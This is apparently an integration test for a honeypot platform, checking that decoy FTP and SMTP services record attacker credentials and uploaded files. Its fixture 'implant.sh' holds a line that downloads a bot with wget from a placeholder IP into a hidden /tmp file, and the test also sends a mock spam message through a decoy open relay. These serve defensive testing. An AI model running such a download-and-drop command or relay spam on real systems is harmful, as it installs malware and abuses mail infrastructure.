package app

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/model"
	"github.com/decnet/decnet/internal/store"
	"github.com/decnet/decnet/internal/testenv"
)

// TestFTPAndSMTPClientsLeaveCredentialsAndArtifacts deploys a file server
// (ftp, smtp) and an open relay through a real `decnet up`, drives them
// with curl and swaks, and checks what ingest stored: one credentials row
// per login (FTP, SMTP AUTH on both modes) and the file and mail artifacts.
func TestFTPAndSMTPClientsLeaveCredentialsAndArtifacts(t *testing.T) {
	curl := testenv.Binary(t, "curl")
	swaks := testenv.Binary(t, "swaks")
	a, _ := startApp(t, testConfig(t, nil))
	deployINI(t, a, "[general]\nnet = 127.96.9.0/24\n\n"+
		"[files-01]\nservices = ftp,smtp\nmutate_interval = 0\n\n"+
		"[files-01.ftp]\nlogin_mode = always\npasv_ports = 31500-31503\nbanner = 220 (vsFTPd 3.0.5)\n\n"+
		"[relay-01]\nservices = smtp_relay\nmutate_interval = 0\n\n"+
		"[relay-01.smtp_relay]\ngreylist_percent = 0\n")
	files := waitServing(t, a, "files-01", "ftp", "smtp")
	ftpAddr, smtpAddr := files["ftp"], files["smtp"]
	relayAddr := waitServing(t, a, "relay-01", "smtp_relay")["smtp_relay"]
	// Every declared port is bound: submission and the passive range too.
	host, _, _ := net.SplitHostPort(smtpAddr)
	for _, port := range []string{"587", "31500", "31503"} {
		if !answers(net.JoinHostPort(host, port)) && !answers(net.JoinHostPort(host, "1"+port)) {
			t.Errorf("port %s of %s is not bound", port, host)
		}
	}

	dir := t.TempDir()
	upload := filepath.Join(dir, "implant.sh")
	os.WriteFile(upload, []byte("#!/bin/sh\nwget http://203.0.113.50/bot -O /tmp/.b\n"), 0o600)
	ftpURL := "ftp://" + ftpAddr + "/"
	for _, args := range [][]string{
		{"-u", "deploy:Fr0m-curl!", ftpURL},
		{"-u", "deploy:Fr0m-curl!", "-o", filepath.Join(dir, "readme"), ftpURL + "README.txt"},
		{"-u", "deploy:Fr0m-curl!", "-T", upload, ftpURL + "implant.sh"},
	} {
		if out, err := exec.Command(curl, append([]string{"-sS", "--max-time", "20"}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("curl %v: %v\n%s", args, err, out)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "readme")); !strings.Contains(string(b), "Internal file drop") {
		t.Errorf("README.txt over FTP: %q", b)
	}

	smtpHost, smtpPort, _ := net.SplitHostPort(smtpAddr)
	out, _ := exec.Command(swaks, "--server", smtpHost, "--port", smtpPort, "--auth", "PLAIN", "--auth-user", "postmaster",
		"--auth-password", "mailpass-9", "--from", "x@y.com", "--to", "z@w.com", "--timeout", "20").CombinedOutput()
	if !strings.Contains(string(out), "535 5.7.8") {
		t.Errorf("smtp AUTH:\n%s", out)
	}
	relayHost, relayPort, _ := net.SplitHostPort(relayAddr)
	out, err := exec.Command(swaks, "--server", relayHost, "--port", relayPort, "--tls", "--auth", "LOGIN",
		"--auth-user", "relayuser", "--auth-password", "relay-Secret1", "--from", "promo@deals.biz", "--to", "mark@victim-corp.com",
		"--header", "Subject: You won", "--body", "Claim at http://claim.deals.biz/now", "--timeout", "20").CombinedOutput()
	if err != nil || !strings.Contains(string(out), "250 2.0.0 Ok: queued as") {
		t.Fatalf("relay: %v\n%s", err, out)
	}

	ctx := context.Background()
	s := a.Store()
	want := map[string]string{"ftp": "Fr0m-curl!", "smtp": "mailpass-9", "smtp_relay": "relay-Secret1"}
	checkFor(t, 20*time.Second, func() error {
		for svc, secret := range want {
			creds, _, err := s.ListCredentials(ctx, store.CredentialQuery{Service: svc, Limit: 10})
			if err != nil {
				return err
			}
			found := false
			for _, c := range creds {
				found = found || (c.SecretPrintable == secret && c.SecretKind == "plaintext" && c.AttackerIP == "127.0.0.1")
			}
			if !found {
				return fmt.Errorf("no %s credentials row with secret %q among %+v", svc, secret, creds)
			}
		}
		return nil
	})
	creds, _, _ := s.ListCredentials(ctx, store.CredentialQuery{Service: "ftp", Limit: 10})
	if c := creds[0]; c.Principal != "deploy" || c.AttemptCount != 3 || c.Outcome != model.OutcomeSuccess || c.DeckyName != "files-01" {
		t.Errorf("ftp credentials row %+v", c)
	}

	var kinds map[string]map[string]any
	checkFor(t, 20*time.Second, func() error {
		bs, _, err := s.ListBounties(ctx, store.BountyQuery{BountyType: model.BountyArtifact, Limit: 10})
		if err != nil {
			return err
		}
		kinds = map[string]map[string]any{}
		for _, b := range bs {
			var p map[string]any
			json.Unmarshal(b.Payload, &p)
			kinds[fmt.Sprint(p["kind"])] = p
		}
		if kinds["file"] == nil || kinds["mail"] == nil {
			return fmt.Errorf("artifact bounties %v", kinds)
		}
		return nil
	})
	if f := kinds["file"]; f["orig_path"] != "/implant.sh" || f["sha256"] == "" {
		t.Errorf("file artifact %v", f)
	}
	if m := kinds["mail"]; m["subject"] != "You won" || m["rcpt_to"] != "mark@victim-corp.com" || m["mail_from"] != "promo@deals.biz" {
		t.Errorf("mail artifact %v", m)
	}
	logs := logsOf(t, s, "files-01", "download_attempt", 1)
	if d := ofType(logs, "download_attempt")[0]; d.Fields["path"] != "/README.txt" {
		t.Errorf("download_attempt row %+v", d.Fields)
	}
}
